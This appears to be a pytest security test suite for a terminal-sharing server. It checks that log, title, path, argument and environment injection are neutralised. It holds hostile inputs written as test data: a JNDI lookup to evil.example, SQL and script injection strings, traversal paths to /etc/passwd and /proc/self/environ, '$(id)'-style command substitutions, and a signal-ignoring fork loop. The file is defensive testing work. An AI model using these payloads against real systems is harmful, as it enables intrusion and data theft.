"""Attacks through names: in logs, titles, paths, environments and command lines."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from attacker import PASSWORD, Target, aim
from harness import Serve, until

from vibetunnel.keeper.processes import living

pytestmark = pytest.mark.attack

EVIL = [
    "x\n2026-01-01 00:00:00,000 INFO root: logged in",
    'x\r\n{"action":"login","user":"root","result":"ok"}',
    "x\x1b[2J\x1b[31mred",
    "x\x1b]0;title\x07",
    "x\x9b31m",  # CSI in one character
    "x\x00y",
    "x\x7f\x08\x08\x08",
    "x\u202eexe.txt",  # right to left
    "x\u2066y\u2069",
    "x\u2028y\u2029z\x85",
    "x\ud800",
    "%s%n%x{0}{secret}",
    "${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>",
    "'; DROP TABLE users; --",
    "x" * 5000,
]


def harmless(text: str) -> bool:
    """Whether the text has only printable characters, for a terminal, a log reader and a person."""
    return all(each.isprintable() and unicodedata.category(each) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for each in text)


async def test_log_injection(serve: Serve, folder: Path, caplog: pytest.LogCaptureFixture) -> None:
    """CWE-117, CWE-150, CWE-134: every record is one line of JSON with printable characters, for any input."""
    server = await serve(rate_limit_anonymous=0)
    target = aim(server)
    session = await target.session(["cat"])
    for evil in EVIL:
        text = evil.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
        raw = text.encode().decode("latin-1")
        await target.fetch("POST", "/api/auth/password", {"userId": text, "password": "x" * 9}, login=False)
        body = json.dumps({"userId": evil, "password": "x" * 9}).encode()
        await target.fetch("POST", "/api/auth/password", body, login=False)
        await target.fetch("POST", f"/api/sessions/{session}/shares", {"name": text})
        await target.fetch("POST", "/api/tokens", {"name": text, "scope": ["view"], "expires": 60})
        await target.fetch("POST", "/api/users", {"name": text, "role": "viewer", "password": PASSWORD})
        await target.fetch("PATCH", f"/api/users/{quote(text, safe='')}", {"role": "viewer"})
        await target.fetch("POST", "/api/auth/revoke", {"user": text})
        await target.fetch("PATCH", f"/api/sessions/{session}", {"name": text})
        await target.fetch("GET", f"/{quote(text, safe='')}", login=False)
        for line in (f"User-Agent: {raw}", f"Referer: {raw}", f"X-Forwarded-For: {raw}", f"Origin: {raw}"):
            await target.say(target.request("GET", "/api/sessions", line, "Connection: close"))
        await target.say(target.request("GET", f"/api/{raw}", "Connection: close"))
        await target.say(target.request(raw.split()[0] or "X", "/api/health", "Connection: close"))
        await target.say(target.request("GET", "/api/health", "Connection: close", host=raw))
        code = (await target.json("POST", "/api/auth/link"))["code"]
        headers = {"User-Agent": "".join(each for each in text if each.isprintable() and each.isascii())}
        await target.browser().fetch("POST", "/api/auth/code", {"code": code}, headers=headers)
        for each in await target.json("GET", "/api/logins"):
            assert harmless(each["agent"])
            assert len(each["agent"]) <= 200
    await target.close()
    await server.close()
    files = [path for path in (folder / "s" / "log").iterdir() if path.is_file()]
    assert {path.name for path in files} >= {"audit.log", "requests.log"}
    for path in files:
        for line in path.read_bytes().splitlines():
            record = json.loads(line)
            assert record.keys() >= {"time", "address"}, record  # it is one of ours
            assert len(line) < 8192
            assert harmless(line.decode()), line
    for record in caplog.records:
        assert all(harmless(part) for part in record.getMessage().split("\n")[:1]), record.getMessage()


async def test_title_injection(target: Target) -> None:
    """CWE-150, CWE-451: a title that a program sets is shown as text of bounded length."""
    print_it = (
        r"printf '\033]2;a\033[31mb\007'; printf '\033]0;\342\200\256c\302\205d\n\007'; printf '\033]2;%70000d\007' 7"
    )
    session = await target.session(["sh", "-c", f"{print_it}; printf ready; cat"], spawn="now")
    await target.output(session, b"ready")
    screen = await target.json("GET", f"/api/sessions/{session}/screen")
    assert harmless(screen["title"])
    assert len(screen["title"]) <= 4096
    for each in await target.json("GET", "/api/sessions"):
        for value in each.values():
            assert not isinstance(value, str) or harmless(value)


async def test_notification_injection(target: Target) -> None:
    """CWE-150, CWE-451: a notification and a variable are shown as single lines of bounded length."""
    evil = r"a\342\200\256b\342\201\246c"
    print_it = (
        f"printf '\\033]777;notify;{evil};{evil}%70000d\\007\\033]777;notify;{evil};{evil}%2000d\\007' 7 7;"
        " printf '\\033]1337;SetUserVar=x=ChtbMzFtCg==\\007'"
    )
    session = await target.session(["sh", "-c", f"{print_it}; printf ready; cat"], spawn="now")
    await target.output(session, b"ready")

    async def told() -> dict[str, Any] | None:
        found: dict[str, Any] = await target.json("GET", f"/api/sessions/{session}")
        return found if "userVars" in found else None

    found = await until(told)
    for text in (found["notification"]["title"], found["notification"]["body"], *found["userVars"].values()):
        assert harmless(text)
        assert len(text) <= 1024


async def test_paste_injection(target: Target) -> None:
    """CWE-150: a pasted text presses no key, and does not end its own bracket."""
    for start, end in (("\\033[?2004h", ("\x1b[200~", "\x1b[201~")), ("", ("", ""))):
        session = await target.session(["sh", "-c", f"stty raw -echo; printf '{start}ready'; exec cat"], spawn="now")
        await target.output(session, b"ready")
        for evil in ("\x1b[201~\r", "\x9b201~\n", "\x1b\x1b[201~[201~", "\x1b\0[201~", "\x7f\x03\x1a\x04"):
            await target.json("POST", f"/api/sessions/{session}/input", {"paste": f"<{evil}>"})
        got = (await target.recorded(session)).decode().rpartition("ready")[2]
        pastes = ["<[201~\r>", "<201~\r>", "<[201~[201~>", "<[201~>", "<>"]
        assert got == "".join(each.join(end) for each in pastes)


async def test_html_of_a_screen_is_text(target: Target) -> None:
    """CWE-79: output and its links become no markup and no script of the page."""
    print_it = (
        r"printf '<img src=x onerror=alert(1)>&\"'\'''; "
        r"printf '\033]8;;javascript:alert(1)\007l\033]8;;\007\033]8;;http://x/\"onclick=\"alert(1)\007m\033]8;;\007'"
    )
    session = await target.session(["sh", "-c", f"{print_it}; printf ready; cat"], spawn="now")
    await target.output(session, b"ready")
    response = await target.fetch("GET", f"/api/sessions/{session}/html")
    assert b"<img" not in response.body
    assert b"javascript:" not in response.body
    assert not re.search(rb'<[^>]*"\s*onclick', response.body)
    assert b"<script" not in response.body
    assert "script-src 'none'" in response.headers["Content-Security-Policy"] or (
        "default-src 'none'" in response.headers["Content-Security-Policy"]
    ) or "script-src 'self'" in response.headers["Content-Security-Policy"]  # fmt: skip


TRICKS = [
    "..", ".", "...", "../..", "..%2f..", "..%2F..%2F", "%2e%2e", "%2e%2e%2f%2e%2e", "%252e%252e%252f", "..%5c..",
    "..\\..",
    "%2fetc%2fpasswd", "%00", "x%00y", "x%0a", "%ff", "%c0%ae%c0%ae%c0%af", "..;", ".%00.", "~", "~root", "%7eroot",
    "-rf",
    "*", "?", "%3f", "%23", "|id", "$(id)", "`id`", "x" * 5000, "%e2%80%ae", "CON", "nul", "x:y",
    "C:%5c", "file:%2f%2f%2fetc",
    "00000000-0000-0000-0000-000000000000", "{session_id}", "[]", "null", "undefined", "NaN", "-1", "0", "1e9", "true",
]  # fmt: skip


def all_below(folder: Path) -> list[str]:
    return sorted(str(path) for path in folder.rglob("*"))


async def test_path_tricks_in_ids(serve: Serve, folder: Path) -> None:
    """CWE-22, CWE-73 (the Node server: DELETE /api/sessions/..%2Fdir/cleanup removed a folder): an id names a session
    or nothing."""
    target = aim(await serve())
    session = await target.session(["cat"])
    canary = folder / "s" / "canary"
    canary.mkdir()
    (canary / "file").write_text("alive")
    paths = (await target.json("GET", "/api/openapi.json"))["paths"]
    before = all_below(folder)
    for trick in [*TRICKS, "..%2Fcanary", "canary", "..%2Fs%2Fcanary", quote(str(canary), safe="")]:
        for path, methods in paths.items():
            if "{" not in path:
                continue
            for method, operation in methods.items():
                if method not in ("get", "post", "patch", "delete"):
                    continue
                full = re.sub(r"\{[a-z_]+\}", lambda _, trick=trick: trick, path)  # type: ignore[misc]
                lines = [f"Authorization: {target.bearer['Authorization']}", "Connection: close"]
                body = b""
                if "requestBody" in operation:
                    body = (
                        b'{"text":"x","rows":2,"cols":2,"signal":"KILL","name":"x","writable":true,"exit":true,'
                        b'"timeoutMs":1}'
                    )
                    lines += ["Content-Type: application/json", f"Content-Length: {len(body)}"]
                for answer in await target.say(target.request(method.upper(), full, *lines, body=body)):
                    known = path.startswith("/api/auth/avatar/")
                    outside = answer.status == 403 and b"(--file-root)" in answer.body
                    assert known or outside or answer.status in (400, 404, 405, 409), (method, full, answer)
                    assert b"root:" not in answer.body
    assert (canary / "file").read_text() == "alive"
    after = all_below(folder)
    assert after == before
    await target.json("GET", f"/api/sessions/{session}")
    await target.close()


async def test_path_tricks_in_files(target: Target) -> None:
    """CWE-22, CWE-23, CWE-59: only the client's files are served, and nothing above or beside them."""
    for trick in (
        "/../../../../etc/passwd", "/..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/assets/../../server.py",
        "/assets/..%2f..%2f..%2fserver.py", "/..%5c..%5cserver.py", "//etc/passwd", "/%2fetc%2fpasswd", "/etc/passwd",
        "/.%2e/.%2e/server.py", "/assets/%00", "/index.html%00.js", "/.git/config", "/.env", "/secret", "/s/secret",
        "/static/../secret", "/index.html/", "/index.html/../../server.py", "/assets/", "/assets",
        "/%252e%252e/server.py",
        "/file:%2f%2f/etc/passwd", "/..;/server.py", "/~root/", "/proc/self/environ",
    ):  # fmt: skip
        for answer in await target.say(target.request("GET", trick, "Connection: close")):
            assert answer.status in (400, 404, 405) or b"<html" in answer.body, (trick, answer.status)
            assert b"root:" not in answer.body
            assert b"import " not in answer.body
            assert target.secret.encode() not in answer.body


async def test_argv_injection(target: Target) -> None:
    """CWE-88, CWE-78: the words of a command go to the program; no shell and no option parser reads them."""
    for word in ("--help", "-c", "$(id)", "`id`", ";id", "|id", "&& id", "'", '"', "\\", "\n", "--", "*", "~", "-rf /"):
        session = await target.session(["printf", "<%s>\n", word, "end"], spawn="now")
        got = await target.output(session, b"<end>")
        assert got.replace(b"\r\n", b"\n") == f"<{word}>\n<end>\n".encode(), word
    for command in (["\x00"], ["x\x00y"], [""], [" "], [], [1], ["cat", None], {"a": 1}, 5, " ", "x\x00"):
        response = await target.fetch("POST", "/api/sessions", {"command": command})
        assert response.code == 400, command
    for name in ("vibetunnel", "--help", "-x"):
        session = await target.session(["cat"], name=name)
        assert (await target.json("GET", f"/api/sessions/{session}"))["name"].startswith(name)


async def test_environment_injection(target: Target) -> None:
    """CWE-454, CWE-93: a session gets its environment unchanged, or is refused."""
    for env in ({"": "x"}, {"A=B": "x"}, {"A\x00": "x"}, {"A": "x\x00"}, {"A": 1}, {"A": None}, [], "A=B"):
        response = await target.fetch("POST", "/api/sessions", {"command": ["cat"], "env": env})
        assert response.code == 400, env
    env = {"A": "x\nVIBETUNNEL_SESSION_ID=evil", "VIBETUNNEL_SESSION_ID": "evil", "B": "$(id)`id`"}
    script = 'printf "%s|%s|%s|end" "$VIBETUNNEL_SESSION_ID" "$A" "$B"'
    session = await target.session(["sh", "-c", script], env=env, spawn="now")
    got = (await target.output(session, b"|end")).decode().replace("\r\n", "\n")
    assert got == f"{session}|{env['A']}|{env['B']}|end"


async def test_sessions_know_nothing_of_the_server(serve: Serve, monkeypatch: pytest.MonkeyPatch) -> None:
    """CWE-526, CWE-403: no setting, secret, listening socket or other terminal reaches a session's program."""
    monkeypatch.setenv("VIBETUNNEL_TEST_SECRET", "hunter2")
    target = aim(await serve())
    await target.session(["cat"], spawn="now")
    session = await target.session(["sh", "-c", "env; ls -l /proc/self/fd; echo the-end"], spawn="now")
    got = (await target.output(session, b"the-end")).decode()
    assert "hunter2" not in got
    assert target.secret not in got
    assert set(re.findall(r"^(VIBETUNNEL_\w+)", got, re.MULTILINE)) == {"VIBETUNNEL_SESSION_ID"}
    assert "socket:" not in got
    assert "ptmx" not in got
    assert "memfd" not in got
    await target.close()


CHAIN = """
import os, signal, sys, time
for each in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM):
    signal.signal(each, signal.SIG_IGN)
print(f"{os.getpid()}.", flush=True)
end = time.monotonic() + 20  # whatever the server does
while time.monotonic() < end:
    if os.fork():
        os._exit(0)
    time.sleep(0.005)
"""


async def test_processes_that_outrun_their_session(serve: Serve) -> None:
    """CWE-404, CWE-400: a program that forks and lets its parent exit cannot outlive the end of its session."""
    target = aim(await serve(kill_grace_s=0.1))
    session = await target.session([sys.executable, "-c", CHAIN], spawn="now")
    leader = int((await target.output(session, b".")).partition(b".")[0])

    async def left() -> bool:
        return "processesLeft" in await target.json("GET", f"/api/sessions/{session}")

    await until(left)
    await target.json("DELETE", f"/api/sessions/{session}")
    assert not [process for process in living() if process.session == leader]
    await target.close()


async def test_names_of_accounts(target: Target) -> None:
    """CWE-20, CWE-88, CWE-178, CWE-1007: an account's name is no path, no option, no lookalike of another name."""
    known = (await target.account()).name
    for name in (
        "",
        ".",
        "..",
        "../x",
        "a/b",
        "-rf",
        "--role",
        "x y",
        "x\n",
        "x\x1b[31m",
        "x\x00",
        "\u0430dmin",
        "x" * 65,
    ):
        response = await target.fetch("POST", "/api/users", {"name": name, "role": "viewer", "password": PASSWORD})
        assert response.code == 400, name
    for name in (known, known.upper()):
        response = await target.fetch("POST", "/api/users", {"name": name, "role": "owner", "password": PASSWORD})
        assert response.code == 409, name


# What other users of this machine see


@pytest.fixture
def process(folder: Path) -> Iterator[tuple[subprocess.Popen[str], str]]:
    """(a server process, its one-time code), started with every setting that may hold a secret."""
    environment = {**os.environ, "VIBETUNNEL_LOG_LEVEL": "warning"}
    options = ["--port", "0", "--state-dir", str(folder / "s"), "--runtime-dir", str(folder / "r"), "--kill-on-exit"]
    server = subprocess.Popen(
        [sys.executable, "-m", "vibetunnel", "serve", *options], env=environment, stdout=subprocess.PIPE, text=True
    )
    assert server.stdout is not None
    code = ""
    for line in server.stdout:
        if found := re.search(r"#([0-9A-Z]{5}-[0-9A-Z]{5})", line):
            code = found[1]
            break
    yield server, code
    server.send_signal(signal.SIGTERM)
    server.wait()
    server.stdout.close()


def processes() -> str:
    """All processes, as any user of this machine sees them."""
    return subprocess.run(["ps", "axww", "-o", "pid=,args="], capture_output=True, text=True, check=True).stdout


def environment_of(pid: int) -> bytes:
    environment = Path(f"/proc/{pid}/environ")
    return environment.read_bytes() if environment.exists() else b""


async def test_ps_shows_no_secret(process: tuple[subprocess.Popen[str], str], folder: Path) -> None:
    """CWE-214, CWE-522: no argument and no environment of server, keeper or session has a secret, code, token or
    password in it."""
    server, code = process
    assert code
    secret = (folder / "s" / "secret").read_text().strip()
    running = json.loads((folder / "r" / "server.json").read_text())
    target = Target(running["url"], secret)
    user = await target.user("owner")
    session = await target.session(["sleep", "1000"], spawn="now")

    async def pid() -> int | None:
        found = (await target.json("GET", f"/api/sessions/{session}"))["pid"]
        return int(found) if found else None

    secrets = [secret, code, code.replace("-", ""), PASSWORD, user.tokens["token"], next(iter(user.jar.values()))]
    program = await until(pid)
    shown = processes()
    assert f"{server.pid} " in shown
    assert f"{program} " in shown
    assert not [text for text in secrets if text in shown]
    for each in (server.pid, program):  # without /proc, no other user can read an environment
        assert not [text for text in secrets if text.encode() in environment_of(each)], each
    await target.close()


async def test_own_files_are_private(serve: Serve, folder: Path) -> None:
    """CWE-276, CWE-732: folders 0700, files and sockets 0600, for any umask."""
    before = os.umask(0)
    try:
        target = aim(await serve(tls_self_signed=True))
        await target.user("owner")
        await target.share(await target.session(["cat"], spawn="now"))
        await target.api_token("view")
    finally:
        os.umask(before)
    found = [*folder.joinpath("s").rglob("*"), *folder.joinpath("r").rglob("*")]
    assert len(found) >= 10
    for path in (folder / "s", folder / "r", *found):
        mode = path.lstat().st_mode & 0o777
        assert mode == (0o700 if path.is_dir() else 0o600), (path, oct(mode))
    await target.close()
